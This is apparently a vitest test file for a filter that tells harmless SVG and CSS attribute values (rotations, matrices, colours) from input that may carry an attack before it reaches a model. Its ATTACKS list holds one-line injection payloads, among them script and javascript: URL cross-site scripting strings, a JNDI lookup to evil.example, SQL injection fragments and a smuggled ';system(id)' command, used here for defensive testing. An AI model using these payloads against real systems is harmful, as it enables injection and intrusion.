import { describe, expect, it } from 'vitest';
import { isGraphicsValue } from '../../src/model/graphics-values.js';
import { mayCarryAttack } from '../../src/model/screen.js';

// SVG attribute values of real files (the rust docs' logos and book figures, pyasn1's logo) and CSS transforms.
const BENIGN = [
  'rotate(72)',
  'matrix(1.8213 0 0 1.7505 -239.14 -356.63)',
  'scale(4.16667 4.16667) rotate(0) translate(4 182.5)',
  'translateX(-50%) rotate(45deg)',
  'translate(10,20) scale(2)',
  'rotate(-90 50 50)',
  'skewX(30)',
  'matrix(1,0,0,1,0,0)',
  'url(#d)',
  'url(#grad) none',
  'rgb(36, 27, 27)',
  'rgb(36 27 27 / 50%)',
  'hsla(210, 40%, 50%, .5)',
];

const ATTACKS = [
  'rotate(72);alert(1)',
  'url(javascript:alert(1))',
  'url(http://evil.example/x)',
  'expression(alert(1))',
  'scale(1) ${jndi:ldap://evil.example/a}',
  'rotate(72) or 1=1',
  'translate(1,2) union select 1',
  "url(#d') or ('1",
  'rgb(1,2,3);system(id)',
  'rotate(1)<script>alert(1)</script>',
];

describe('isGraphicsValue', () => {
  it.each(BENIGN)('takes %j, and the screen keeps it from the model', (text) => {
    expect(isGraphicsValue(text)).toBe(true);
    expect(mayCarryAttack(text)).toBe(false);
  });

  it.each(ATTACKS)('does not take %j, which still goes to the model', (text) => {
    expect(isGraphicsValue(text)).toBe(false);
    expect(mayCarryAttack(text)).toBe(true);
  });

  it('takes nothing over 1,024 characters (what bounds a search over a long run of separators)', () => {
    expect(isGraphicsValue(`rotate(${'1 '.repeat(10)})`)).toBe(true);
    expect(isGraphicsValue(`rotate(${'1 '.repeat(600)})`)).toBe(false);
  });
});
